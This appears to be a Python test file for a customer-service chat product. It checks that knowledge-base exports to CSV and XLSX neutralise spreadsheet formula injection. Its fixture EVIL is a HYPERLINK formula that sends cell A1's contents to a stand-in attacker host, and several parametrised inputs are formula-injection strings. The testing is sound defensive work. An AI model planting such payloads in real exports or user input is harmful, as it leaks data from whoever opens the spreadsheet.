"""Issue 15 §5: no export writes a live spreadsheet formula.

The attack, end to end: a visitor asks the bot a question that is a formula; the
bot does not know it, so it becomes an unrecognised question; an admin turns it
into a knowledge-base entry; the KB export (CSV and XLSX) must hold it as text.
Read back with the csv module and openpyxl (as Excel would see it), then
imported again: the entry comes back as the visitor typed it. And every module
that writes CSV or XLSX goes through ``meiqia.spreadsheets``.
"""

from __future__ import annotations

import csv
import io
import pathlib
import re

import pytest

from meiqia import spreadsheets
from tests.api.test_conversations import start
from tests.helpers import new_client_id

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"点击领取优惠券")'
EVIL_ANSWER = "-请联系客服 +86 400-000-0000"
ROOT = pathlib.Path(__file__).resolve().parents[2] / "meiqia"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_visitors_formula_question_exported_from_the_kb_is_text(api, fmt, tmp_path):
    client, token, cid, _ = start(api.app, api.team["id"], name="访客")
    asked = client.post(f"/api/v1/widget/conversations/{cid}/messages",
                        headers={"X-Visitor-Token": token}, json={"body": EVIL, "client_msg_id": new_client_id()})
    assert asked.status_code == 201, asked.get_json()
    groups = api.get("/api/v1/bot/unrecognised").get_json()["groups"]
    group = next(g for g in groups if EVIL in g["questions"])
    resolved = api.post("/api/v1/bot/unrecognised/resolve", json={
        "question_ids": group["question_ids"], "answer": EVIL_ANSWER, "category": "@活动"})
    assert resolved.status_code == 201, resolved.get_json()

    response = api.get(f"/api/v1/knowledge/export?format={fmt}")
    assert response.status_code == 200
    data = response.get_data()
    response.close()
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value  # never a formula
        rows = [["" if v is None else str(v) for v in row]
                for row in sheet.iter_rows(values_only=True)]
    row = next(dict(zip(rows[0], r, strict=False)) for r in rows[1:] if EVIL in r[1])
    assert row["question"] == "'" + EVIL
    assert row["answer"] == "'" + EVIL_ANSWER
    assert row["category"] == "'@活动"
    assert not any(cell.startswith(spreadsheets.FORMULA_START) for r in rows for cell in r)

    # exported, imported again: the text the visitor typed, not the apostrophe
    path = tmp_path / f"kb.{fmt}"
    path.write_bytes(data)
    from meiqia.bot import kbfile

    entry = next(e for e in kbfile.load_kb(path) if EVIL in e.questions)
    assert (entry.answer, entry.category) == (EVIL_ANSWER, "@活动")


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1",
                                   "''+x", "'text", "普通文本", "", "a=b"])
def test_neutralise_and_restore_round_trip(value):
    written = spreadsheets.neutralise(value)
    assert not written.startswith(spreadsheets.FORMULA_START)
    assert spreadsheets.restore(written) == value


def test_every_csv_or_xlsx_writer_goes_through_the_shared_module():
    """A new export that writes CSV or XLSX itself would skip the neutralising: no
    raw ``csv.writer``, and a module that opens a workbook uses ``meiqia.spreadsheets``."""
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        if path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        name = str(path.relative_to(ROOT))
        if re.search(r"csv\.(writer|DictWriter)\(", source):
            offenders.append(f"{name}: a raw csv writer (use spreadsheets.csv_writer)")
        if re.search(r"xlsxwriter|openpyxl import Workbook", source) \
                and "meiqia.spreadsheets import" not in source:
            offenders.append(f"{name}: writes XLSX without meiqia.spreadsheets")
    assert not offenders, offenders
